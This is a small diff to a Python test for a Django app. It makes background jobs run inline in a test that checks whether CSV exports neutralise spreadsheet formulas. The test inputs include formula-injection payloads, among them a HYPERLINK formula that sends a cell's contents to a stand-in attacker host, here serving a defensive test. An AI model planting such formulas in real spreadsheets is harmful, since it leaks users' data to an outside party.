@@ -110,7 +110,7 @@ def test_post_to_a_static_file_is_not_a_server_error(editor):
 
 
 def test_csv_results_neutralise_formulas(editor, active_router, django_capture_on_commit_callbacks, settings):
-    settings.COE_JOBS_IN_BACKGROUND = False
+    settings.CELERY_TASK_ALWAYS_EAGER, settings.COE_JOBS_IN_BACKGROUND = True, False  # jobs inline
     prompts = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4 is what?", "@SUM(A1:A9)",
                "plain question about math"]
     with django_capture_on_commit_callbacks(execute=True):
